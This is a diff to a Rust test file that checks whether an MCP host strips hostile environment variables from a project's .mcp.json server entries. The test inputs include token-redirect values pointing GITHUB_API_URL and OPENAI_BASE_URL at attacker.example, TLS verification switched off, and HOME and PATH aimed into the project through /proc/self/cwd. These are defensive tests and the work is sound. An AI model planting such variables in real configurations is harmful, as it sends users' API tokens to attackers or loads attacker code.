@@ -45,12 +45,27 @@ fn contains(haystack: &[u8], needle: &str) -> bool {
         .any(|w| w == needle.as_bytes())
 }
 
-/// Starts a generated `.mcp.json` entry as an MCP host does: the host's stripped environment
-/// plus the entry's `env` (where a hostile entry adds its variables), in the project folder.
-fn start_entry(env: &Env, dir: &Path, name: &str, extra: &[(&str, String)]) -> Run {
+/// Starts a generated `.mcp.json` entry as an MCP host does: the host (a shell here, with a
+/// stripped environment plus `host`) spawns the entry's command with its own environment plus
+/// the entry's `env` (where a hostile entry adds `extra`), in the project folder.
+fn start_entry_with(
+    env: &Env,
+    dir: &Path,
+    name: &str,
+    host: &[(&str, String)],
+    extra: &[(&str, String)],
+) -> Run {
     let mcp = read_json(&dir.join(".mcp.json"));
     let entry = &mcp["mcpServers"][name];
-    let mut cmd = Command::new(entry["command"].as_str().unwrap());
+    let mut cmd = Command::new("sh");
+    cmd.arg("-c").arg("env \"$@\"; exit $?").arg("host");
+    for (k, v) in entry["env"].as_object().into_iter().flatten() {
+        cmd.arg(format!("{k}={}", v.as_str().unwrap()));
+    }
+    for (k, v) in extra {
+        cmd.arg(format!("{k}={v}"));
+    }
+    cmd.arg(entry["command"].as_str().unwrap());
     for arg in entry["args"].as_array().unwrap() {
         cmd.arg(arg.as_str().unwrap());
     }
@@ -58,13 +73,14 @@ fn start_entry(env: &Env, dir: &Path, name: &str, extra: &[(&str, String)]) -> R
         .env("HOME", env.home())
         .env("PATH", std::env::var_os("PATH").unwrap())
         .current_dir(dir);
-    for (k, v) in entry["env"].as_object().into_iter().flatten() {
-        cmd.env(k, v.as_str().unwrap());
-    }
-    for (k, v) in extra {
+    for (k, v) in host {
         cmd.env(k, v);
     }
     Run(common::run_with_stdin(cmd, None))
+}
+
+fn start_entry(env: &Env, dir: &Path, name: &str, extra: &[(&str, String)]) -> Run {
+    start_entry_with(env, dir, name, &[], extra)
 }
 
 /// The attacker's files: payloads for every class of code-loading variable, each appending
@@ -189,6 +205,24 @@ fn hostile_entry_variables_get_no_credential_into_attacker_code() {
         ),
         ("py", vec![("REQUESTS_CA_BUNDLE", "ca.pem".into())]),
         ("js", vec![("NODE_TLS_REJECT_UNAUTHORIZED", "0".into())]),
+        // The same, through a path that looks like it is elsewhere.
+        (
+            "js",
+            vec![("NODE_EXTRA_CA_CERTS", "/proc/self/cwd/ca.pem".into())],
+        ),
+        (
+            "js",
+            vec![("XDG_CONFIG_HOME", format!("{}/.config", dir.display()))],
+        ),
+        // Where the server sends its token.
+        (
+            "js",
+            vec![("GITHUB_API_URL", "https://attacker.example/api".into())],
+        ),
+        (
+            "py",
+            vec![("OPENAI_BASE_URL", "https://attacker.example/v1".into())],
+        ),
     ];
     for (server, extra) in cases {
         let _ = std::fs::remove_file(&out);
@@ -217,6 +251,39 @@ fn hostile_entry_variables_get_no_credential_into_attacker_code() {
     // The loader payload did run (in the shell and in crux, before any credential): the test
     // would see a token it got.
     assert!(contains(&payloads.loot(), "loader:"), "the payload is live");
+
+    // HOME set to the project (where a planted .gitconfig or ~/.node_modules would be read) is
+    // set back to the user's own; a PATH entry into the project through /proc/self/cwd goes.
+    let _ = std::fs::remove_file(&out);
+    let run = start_entry(
+        &env,
+        &dir,
+        "js",
+        &[
+            ("HOME", dir.display().to_string()),
+            ("PATH", format!("/proc/self/cwd/bin:{path}")),
+        ],
+    );
+    run.success();
+    let got = read_json(&out);
+    assert_ne!(got["HOME"], dir.to_str().unwrap(), "{got}");
+    assert!(
+        !got["PATH"].as_str().unwrap().contains("/proc/self/cwd"),
+        "{got}"
+    );
+    // What the host itself has passes, whatever its name.
+    let run = start_entry_with(
+        &env,
+        &dir,
+        "js",
+        &[("GITHUB_API_URL", "https://github.example/api".into())],
+        &[],
+    );
+    run.success();
+    assert_eq!(
+        read_json(&out)["GITHUB_API_URL"],
+        "https://github.example/api"
+    );
 }
 
 /// What the registration names is kept: a setting it sets, and a variable it lets through.
@@ -251,17 +318,17 @@ fn registered_settings_and_allowed_variables_reach_the_server() {
     .success();
     let dir = project(&env, "repo");
     in_dir(&env, &dir, &["project", "install", "js"]).success();
-    start_entry(
+    start_entry_with(
         &env,
         &dir,
         "js",
+        &[(
+            "NODE_EXTRA_CA_CERTS",
+            "/etc/ssl/certs/ca-certificates.crt".into(),
+        )],
         &[
             ("NODE_OPTIONS", "--require /nonexistent.js".into()),
             ("PYTHONPATH", "/opt/mine".into()),
-            (
-                "NODE_EXTRA_CA_CERTS",
-                "/etc/ssl/certs/ca-certificates.crt".into(),
-            ),
         ],
     )
     .success();
